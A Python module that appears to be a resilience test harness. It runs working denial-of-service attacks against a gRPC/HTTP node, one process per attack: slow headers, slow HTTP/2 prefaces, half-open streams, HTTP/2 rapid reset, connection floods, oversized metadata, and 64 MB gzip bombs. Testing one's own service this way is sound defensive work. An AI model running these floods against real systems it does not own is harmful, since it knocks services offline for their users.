"""What strangers do to a node to keep others from it, each until it is stopped. For a node of one's own only."""

from __future__ import annotations

import asyncio
import gzip
import itertools
import multiprocessing
import os
import struct
from collections.abc import Awaitable, Callable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass

import grpc

from scripts.http2 import END_HEADERS, HEADERS, PREFACE, RST_STREAM, SETTINGS, call_fields, frame, literals

CANCEL = struct.pack(">I", 8)
METHOD = "/vtrace.v1.VTraceInterface/GetCirc"
HEAD = literals(call_fields(METHOD, None))
BOMB_BYTES = 64 * 1024 * 1024
STREAMS_A_CONNECTION = 100
PAUSE_SECONDS = 0.2


@dataclass(frozen=True, slots=True)
class Target:
    """HOST:PORT of both servers, and how many connections or streams an attack may hold."""

    grpc: str
    http: str
    size: int


async def _connect(address: str) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    host, _, port = address.rpartition(":")
    return await asyncio.open_connection(host, int(port))


async def _for_ever(work: Callable[[], Awaitable[None]]) -> None:
    """Again and again, whatever the node does about it."""
    while True:
        with suppress(OSError, asyncio.IncompleteReadError, EOFError):
            await work()
        await asyncio.sleep(PAUSE_SECONDS)


async def _drop(reader: asyncio.StreamReader) -> None:
    while await reader.read(65_536):
        pass


async def slow_heads(target: Target) -> None:
    """Connections to the HTTP port that never finish a request's head."""

    async def one() -> None:
        _, writer = await _connect(target.http)
        writer.write(b"GET /t/1 HTTP/1.1\r\nHost: node\r\nX-Slow: ")
        try:
            while True:
                writer.write(b"x")
                await writer.drain()
                await asyncio.sleep(1)
        finally:
            writer.close()

    await asyncio.gather(*(_for_ever(one) for _ in range(target.size)))


async def slow_prefaces(target: Target) -> None:
    """Connections to the gRPC port that never finish HTTP/2's first words."""

    async def one() -> None:
        reader, writer = await _connect(target.grpc)
        writer.write(PREFACE[:10])
        try:
            await _drop(reader)
        finally:
            writer.close()

    await asyncio.gather(*(_for_ever(one) for _ in range(target.size)))


async def half_open(target: Target) -> None:
    """Calls that never send their message, as many to a connection as the server takes."""

    async def one() -> None:
        reader, writer = await _connect(target.grpc)
        writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
        dropping = asyncio.ensure_future(_drop(reader))
        try:
            numbers = itertools.count(1, 2)
            while not dropping.done():
                for _ in range(STREAMS_A_CONNECTION):
                    writer.write(frame(HEADERS, END_HEADERS, next(numbers), HEAD))
                await writer.drain()
                await asyncio.wait([dropping], timeout=5)
        finally:
            dropping.cancel()
            writer.close()

    connections = max(1, target.size // STREAMS_A_CONNECTION)
    await asyncio.gather(*(_for_ever(one) for _ in range(connections)))


async def rapid_reset(target: Target) -> None:
    """Calls that are taken back as soon as they are there."""

    async def one() -> None:
        reader, writer = await _connect(target.grpc)
        writer.write(PREFACE + frame(SETTINGS, 0, 0, b""))
        dropping = asyncio.ensure_future(_drop(reader))
        try:
            for number in itertools.count(1, 2):
                if dropping.done() or number > 2**30:
                    return
                writer.write(frame(HEADERS, END_HEADERS, number, HEAD) + frame(RST_STREAM, 0, number, CANCEL))
                if number % 100 == 1:
                    await writer.drain()
                    await asyncio.sleep(0)
        finally:
            dropping.cancel()
            writer.close()

    await asyncio.gather(*(_for_ever(one) for _ in range(4)))


async def many_connections(target: Target) -> None:
    """Connections to both ports that say nothing, opened anew when they are closed."""

    async def one(address: str) -> None:
        reader, writer = await _connect(address)
        try:
            await _drop(reader)
        finally:
            writer.close()

    both = (target.grpc, target.http)
    await asyncio.gather(*(_for_ever(lambda to=both[n % 2]: one(to)) for n in range(target.size)))  # type: ignore[misc]


async def _calls(target: Target, message: bytes, **more: object) -> None:
    options = [("grpc.max_send_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
    async with grpc.aio.insecure_channel(target.grpc, options=options) as channel:
        call = channel.unary_unary(METHOD)

        async def one() -> None:
            with suppress(grpc.RpcError):
                await call(message, timeout=10, **more)
            await asyncio.sleep(0.01)

        await asyncio.gather(*(_for_ever(one) for _ in range(4)))


async def large_metadata(target: Target) -> None:
    """Metadata of half a megabyte."""
    await _calls(target, b"", metadata=[(f"x-{number}", "y" * 8_192) for number in range(64)])


async def grpc_bombs(target: Target) -> None:
    """Messages that unpack to a thousand times what was sent."""
    await _calls(target, bytes(BOMB_BYTES), compression=grpc.Compression.Gzip)


async def http_bombs(target: Target) -> None:
    """The same as bodies of HTTP."""
    body = gzip.compress(bytes(BOMB_BYTES))
    head = (
        f"POST /api/v1/circ:get HTTP/1.1\r\nHost: node\r\nContent-Type: application/json\r\nContent-Length: {len(body)}"
    )

    async def one() -> None:
        reader, writer = await _connect(target.http)
        try:
            writer.write(head.encode() + body)
            await reader.readuntil(b"\r\n\r\n")
        finally:
            writer.close()

    await asyncio.gather(*(_for_ever(one) for _ in range(8)))


ATTACKS: dict[str, tuple[Callable[[Target], Awaitable[None]], int]] = {
    "slow heads (HTTP)": (slow_heads, 2_000),
    "slow prefaces (gRPC)": (slow_prefaces, 2_000),
    "half-open streams": (half_open, 10_000),
    "rapid reset": (rapid_reset, 4),
    "many connections": (many_connections, 4_000),
    "large metadata": (large_metadata, 4),
    "gRPC gzip bombs": (grpc_bombs, 4),
    "HTTP gzip bombs": (http_bombs, 8),
}
"""Name → the attack, and how many connections or streams it holds."""


def _attack(name: str, target: Target) -> None:
    os.nice(10)  # the node's answers are measured, not who gets this machine's processors

    async def run() -> None:
        await ATTACKS[name][0](target)

    asyncio.run(run())


@contextmanager
def under(name: str, target: Target) -> Iterator[None]:
    """An attack by a process of its own for the length of a block."""
    process = multiprocessing.get_context("spawn").Process(target=_attack, args=(name, target), daemon=True)
    process.start()
    try:
        yield
        assert process.is_alive(), f"the attack {name} ended by itself"
    finally:
        process.kill()
        process.join()
